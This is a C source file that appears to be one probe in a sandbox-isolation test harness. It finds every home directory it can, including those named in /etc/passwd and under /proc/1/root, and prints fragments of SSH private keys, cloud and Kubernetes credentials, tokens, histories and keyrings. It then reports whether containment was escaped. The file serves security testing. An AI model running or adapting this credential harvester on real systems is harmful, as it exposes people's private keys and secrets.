/* host_credentials: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F02: host credential files in every home directory a real attacker would look at. */
static const char *rel[] = {
    ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa", ".ssh/id_dsa", ".ssh/authorized_keys", ".ssh/known_hosts",
    ".ssh/config", ".aws/credentials", ".aws/config", ".aws/sso/cache", ".kube/config", ".docker/config.json",
    ".git-credentials", ".gitconfig", ".netrc", ".bash_history", ".zsh_history", ".python_history",
    ".mysql_history", ".psql_history", ".lesshst", ".viminfo", ".pgpass", ".my.cnf", ".npmrc", ".pypirc",
    ".cargo/credentials", ".cargo/credentials.toml", ".config/gh/hosts.yml", ".config/gcloud/credentials.db",
    ".config/gcloud/application_default_credentials.json", ".config/gcloud/access_tokens.db", ".azure/accessTokens.json",
    ".azure/msal_token_cache.json", ".gnupg/secring.gpg", ".gnupg/private-keys-v1.d", ".vault-token",
    ".terraform.d/credentials.tfrc.json", ".config/hub", ".m2/settings.xml", ".gradle/gradle.properties",
    ".s3cfg", ".boto", ".env", ".local/share/keyrings/login.keyring", ".password-store", ".bashrc", ".profile",
};

static char homes[64][600];
static int nhomes;
static void add_home(const char *h)
{
    if (!h || !*h || nhomes >= 64) return;
    for (int i = 0; i < nhomes; i++) if (!strcmp(homes[i], h)) return;
    snprintf(homes[nhomes++], 600, "%s", h);
}

int main(int argc, char **argv)
{
    const char *canary = argc > 1 ? argv[1] : "/nonexistent";
    const char *canary_dir = argc > 2 ? argv[2] : "/nonexistent";
    if (argc > 3) NONCE = argv[3];
    static const char *fixed[] = {"/root", "/home/root", "/home/runner", "/home/ubuntu", "/home/admin", "/home/debian",
                                  "/home/ec2-user", "/home/user", "/home/vagrant", "/home/git", "/home/jenkins",
                                  "/var/lib/jenkins", "/var/lib/postgresql", "/var/lib/docker", "/srv", "/opt",
                                  "/github/home", "/builds", "/workspace", "/work"};
    for (unsigned i = 0; i < sizeof fixed / sizeof *fixed; i++) add_home(fixed[i]);
    add_home(getenv("HOME"));
    /* every directory under /home and /Users */
    const char *roots[] = {"/home", "/Users", "/proc/1/root/home"};
    for (int r = 0; r < 3; r++) {
        DIR *d = opendir(roots[r]);
        if (!d) { printf("opendir %s: %s\n", roots[r], strerror(errno)); continue; }
        struct dirent *e; int n = 0;
        while ((e = readdir(d)) && n++ < 100) {
            if (e->d_name[0] == '.') continue;
            char p[600]; snprintf(p, sizeof p, "%s/%s", roots[r], e->d_name); add_home(p);
        }
        closedir(d);
    }
    /* home directories named in passwd, if any passwd is visible */
    FILE *pw = fopen("/etc/passwd", "r");
    if (pw) {
        char line[512]; int n = 0;
        while (fgets(line, sizeof line, pw) && n++ < 200) {
            char *f = line; for (int k = 0; k < 5 && f; k++) { f = strchr(f, ':'); if (f) f++; }
            if (f) { char *e = strchr(f, ':'); if (e) { *e = 0; add_home(f); } }
        }
        fclose(pw);
    } else printf("open /etc/passwd: %s\n", strerror(errno));
    int found = 0;
    for (int h = 0; h < nhomes; h++) {
        struct stat st;
        if (stat(homes[h], &st) != 0) { printf("home %s: %s\n", homes[h], strerror(errno)); continue; }
        for (unsigned i = 0; i < sizeof rel / sizeof *rel; i++) {
            char p[800]; snprintf(p, sizeof p, "%s/%s", homes[h], rel[i]);
            if (dump_path(p, 300) > 0) found++;
        }
    }
    /* the honey credentials the harness plants: the canary directory, every file in it */
    dump_path(canary, 400);
    DIR *d = opendir(canary_dir);
    if (d) {
        struct dirent *e; int n = 0;
        while ((e = readdir(d)) && n++ < 50) {
            char p[600]; snprintf(p, sizeof p, "%s/%s", canary_dir, e->d_name);
            if (e->d_name[0] != '.' || e->d_name[1]) dump_path(p, 400);
        }
        closedir(d);
    } else printf("opendir %s: %s\n", canary_dir, strerror(errno));
    report(found > 0, "read-host-credential-files(%d)", found);
    usleep(400000); /* let the host's pstat sampler look at our root */
    return 0;
}
